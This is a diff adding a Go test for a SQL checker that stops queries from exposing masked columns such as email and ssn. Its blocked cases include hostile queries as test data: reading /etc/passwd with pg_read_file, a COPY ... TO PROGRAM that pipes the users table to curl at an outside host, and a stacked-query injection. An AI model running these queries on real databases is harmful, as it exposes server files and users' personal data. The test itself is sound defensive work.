@@ -0,0 +1,49 @@
+package sqlanalysis
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCheckMaskedAccess(t *testing.T) {
+	schema := MaskedSchema{
+		Column: func(name string) bool { return name == "email" || name == "ssn" },
+		Table:  func(table string) bool { return table == "users" },
+	}
+	allowed := []string{
+		"SELECT email, name FROM users",
+		"SELECT u.email AS email FROM users u ORDER BY u.email DESC",
+		"SELECT DISTINCT email FROM users GROUP BY email",
+		"SELECT * FROM users WHERE id = 7",
+		"SELECT id FROM users WHERE email = 'a@example.com' AND ssn IS NOT NULL",
+		"WITH c AS (SELECT email FROM users) SELECT email FROM c",
+		"SELECT s.email FROM (SELECT email FROM users) s",
+		"UPDATE users SET email = NULL, name = 'x' WHERE id = 7",
+		"SELECT name FROM orders o JOIN users u ON u.id = o.user_id",
+		"SELECT row_to_json(o) FROM orders o",
+	}
+	for _, sql := range allowed {
+		assert.Empty(t, CheckMaskedAccess(sql, schema), sql)
+	}
+
+	blocked := map[string]string{
+		"SELECT email AS contact FROM users":                      "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"SELECT email contact FROM users":                         "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"SELECT upper(u.email) FROM users u":                      "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"SELECT id FROM users WHERE ssn LIKE '1%'":                "ssn is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"SELECT name || email FROM users":                         "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"SELECT (SELECT email FROM users LIMIT 1) AS c":           "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"INSERT INTO notes (body) SELECT email FROM users":        "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"UPDATE users SET name = email":                           "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+		"SELECT row_to_json(u) FROM users u":                      "u is a whole row of a table with masked columns; select its columns instead",
+		"SELECT pg_read_file('/etc/passwd')":                      "pg_read_file reads files of the database server",
+		"COPY users TO PROGRAM 'curl -d @- http://example.com'":   "COPY ... PROGRAM runs a command on the database server",
+		"SELECT 1; -- x\nSELECT load_file('/etc/hosts')":          "load_file reads files of the database server",
+		`SELECT 'x\' ; SELECT lower(email) FROM users; SELECT ''`: "email is masked, so it can only be selected, sorted or grouped by as itself, or compared with a literal",
+	}
+	for sql, problem := range blocked {
+		assert.Contains(t, CheckMaskedAccess(sql, schema), problem, sql)
+	}
+	assert.Empty(t, CheckMaskedAccess("SELECT 'email = 1' FROM orders", schema), "literals are not columns")
+}